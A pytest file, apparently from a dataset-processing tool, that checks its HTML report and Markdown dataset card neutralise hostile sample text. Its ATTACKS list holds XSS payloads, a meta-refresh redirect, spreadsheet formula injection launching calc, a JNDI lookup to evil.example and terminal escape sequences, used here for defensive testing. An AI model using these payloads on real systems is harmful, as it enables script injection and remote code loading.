"""Texts, ids and file names of samples that are markup: nothing of them is an element of a page or of Markdown."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from dj_assets.assets.pictures import duplicate_differences, examples
from dj_assets.recipe.gallery import find_gallery
from dj_assets.subset import Options, Subset
from dj_assets.views.run import run_recipe

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=http://evil.example/a.png onerror=alert(1)>",
    "</pre></td></table><iframe src='javascript:alert(1)'></iframe>",
    "<svg/onload=alert(1)><style>@import 'http://evil.example/a.css'</style>",
    "![pixel](http://evil.example/a.png) and [link](javascript:alert(1))",
    "[a]: http://evil.example/a.png\n![a]",
    "| cell | <b>bold</b> |\n| --- | --- |\n\n# heading\n```\ncode",
    '"><meta http-equiv=refresh content="0;url=http://evil.example">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "=HYPERLINK(\"http://evil.example\") +1 -1 @SUM(1) \t=cmd|' /C calc'!A0",
    "\x1b]0;title\x07\x1b[2J\u202egnp.exe",
    "${jndi:ldap://evil.example/a} {{7*7}} $x^2$ `code`",
]
NAME = "<script>alert(2)<\u2215script>![a](http:b).jsonl"
PROCESS = [{"text_length_filter": {"min_len": 200}}, "document_deduplicator"]


class Elements(HTMLParser):
    """Collects the elements of a page with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.fixture
def source(tmp_path: Path) -> Path:
    folder = tmp_path / "data"
    folder.mkdir()
    short = [{"id": attack, "text": attack, attack: attack} for attack in ATTACKS]
    long = [{"id": f"{number} {attack}", "text": attack * 30} for attack in ATTACKS for number in range(2)]
    lines = [json.dumps(record) for record in (*short, *long)]
    (folder / NAME).write_text("\n".join([*lines, '{"text": "<script>', '{"id": 1}']) + "\n")
    return folder / NAME


def test_the_report_and_the_card(tmp_path: Path, source: Path) -> None:
    run_recipe({"project_name": ATTACKS[0], "process": PROCESS}, [source], tmp_path / "out", workers=1)
    page = (tmp_path / "out/report.html").read_text()
    elements = Elements(page).found
    assert {tag for tag, _ in elements}.isdisjoint({"script", "iframe", "object", "embed", "form", "link", "base"})
    for tag, attributes in elements:
        assert not [name for name in attributes if name.startswith("on")]
        wanted = [attributes.get(name, "") for name in ("src", "href", "action", "data", "xlink:href")]
        assert all(not value or value.startswith(("data:image/", "#")) for value in wanted), tag
    policies = [a["content"] for tag, a in elements if a.get("http-equiv") == "Content-Security-Policy"]
    assert policies == ["default-src 'none'; style-src 'unsafe-inline'; img-src data:"]
    assert not [a for tag, a in elements if a.get("http-equiv") == "refresh"]
    assert "alert(1)" in page, "the texts are shown"
    for control in ("\x1b", "\x07", "\u202e"):
        assert control not in page
    # the front matter is YAML
    _, _, card = (tmp_path / "out/dataset_card.md").read_text().split("---\n", 2)
    require_harmless(card)


def require_harmless(markdown: str) -> None:
    """Assert that Markdown has no image, link, element or entity made of the attacks."""
    outside = "\n".join(part for number, part in enumerate(markdown.split("```")) if number % 2 == 0)
    for sign in ("<script", "<img", "<iframe", "<svg", "<b>", "<meta", "![", "](", "&lt;", "\x1b", "\u202e"):
        assert sign not in outside, sign


def test_the_page_of_the_asset(tmp_path: Path, source: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DJ_PROJECT", str(tmp_path))
    monkeypatch.setenv("DJ_HOME", str(tmp_path / "home"))
    recipe = tmp_path / "recipes/mine/notes.yaml"
    recipe.parent.mkdir(parents=True)
    asset = {"subset": "notes", "group": "mine", "source": {"paths": str(source.parent)}}
    recipe.write_text(json.dumps({"asset": asset, "process": PROCESS}))
    subset = Subset.of_asset(find_gallery().recipes["notes"], Options(workers=1))
    result = subset.run()
    shown = [examples(result, subset).value, duplicate_differences(result, subset).value]
    assert all("alert(1)" in (markdown or "") for markdown in shown)
    for markdown in shown:
        require_harmless(markdown or "")
